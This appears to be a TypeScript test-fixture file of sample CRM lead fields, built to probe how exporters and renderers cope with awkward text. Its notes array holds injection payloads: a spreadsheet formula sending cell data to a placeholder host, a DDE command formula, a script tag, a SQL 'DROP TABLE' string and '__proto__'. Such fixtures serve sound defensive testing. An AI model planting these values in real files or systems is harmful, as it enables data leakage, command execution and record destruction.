/**
 * What stands in the other cells of a list: job titles, trades, notes. Among the notes are all that a reader of lists or a
 * renderer may take for more than text: quoted line breaks, formulas, tokens, markup, marks of direction, quotes.
 */

export const titles: ReadonlyArray<string> = [
  "VP Sales",
  "Head of Growth",
  "CEO",
  "CTO",
  "Founder & CEO",
  "Director, Revenue",
  "Account Executive",
  "Office Manager",
  "Chief of Staff",
  "Sr. Software Engineer",
  "Procurement Lead",
  "Owner/Operator",
  "Marketing Manager (EMEA)",
  "Geschäftsführer",
  "Leiterin Einkauf",
  "Directrice générale",
  "Responsable d'achats",
  "Director de Ventas",
  "Генеральный директор",
  "Διευθυντής",
  "مدير المبيعات",
  'מנכ"ל',
  "प्रबंध निदेशक",
  "ผู้จัดการ",
  "销售总监",
  "代表取締役",
  "영업 이사",
  "Growth 🌱",
  'Consultant, "freelance"',
  "Assistant to the Regional Manager"
]

export const seniorities = [
  "C suite",
  "Founder",
  "Vp",
  "Head",
  "Director",
  "Manager",
  "Senior",
  "Entry"
] as const
export const departments = [
  "Sales",
  "Engineering",
  "Marketing, Growth",
  "Operations",
  "Finance",
  "C-Suite"
] as const
export const industries = [
  "information technology & services",
  "logistics & supply chain",
  "food & beverages",
  "hospital & health care",
  "mechanical or industrial engineering",
  "law practice",
  "retail",
  "renewables & environment"
] as const
export const sources = [
  "Web",
  "Trade Show",
  "Partner Referral",
  "Purchased List",
  "Phone Inquiry",
  "Other"
] as const
export const stages = [
  "New",
  "Open",
  "In Progress",
  "Attempted to Contact",
  "Connected",
  "Unqualified"
] as const
export const tags = ["", "VIP", "Newsletter", "Expo 2023", "do-not-call", "Customer, old"] as const
export const owners = ["Dana Marsh", "Kit O'Neill", "Jörg Kühn", "Iris Quill", "Deactivated User"] as const

export const notes: ReadonlyArray<string> = [
  "Met at the expo.\nWants a call in May.",
  "Line one\r\nLine two\r\n\r\nLine four",
  'Said "not before Q3", then hung up',
  '=HYPERLINK("https://kestrel.example/?q="&A1,"Click here")',
  "=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "Hi {{firstName}}, how is {{company|your company}}?",
  "{{{raw}}} {% if x %} $\u007bvalue} %s",
  "<b>Important</b> <script>alert(1)</script> &amp;",
  "'); DROP TABLE leads;--",
  "\u202eright to left\u202c and back",
  "Pays late, but pays; see invoice #1,204",
  "a\tb\tc",
  'C:\\new\\table, \\"quoted\\"',
  "   spaces around   ",
  "Zeile mit \u2028 Trenner",
  "👨‍👩‍👧‍👦 family business 🇪🇺",
  "__proto__",
  "null",
  "NULL",
  "TRUE",
  "0",
  "007",
  "1e5",
  "2024-02-30",
  "#N/A",
  '""',
  '"',
  "Называли в марте, просили перезвонить",
  "来月また連絡する、資料は送付済み",
  "تم الاتصال، لا رد"
]

/** A text that no field may hold: more than 5,000 UTF-16 code units. */
export const tooLong = "This note was pasted from a whole thread of mail. ".repeat(110)
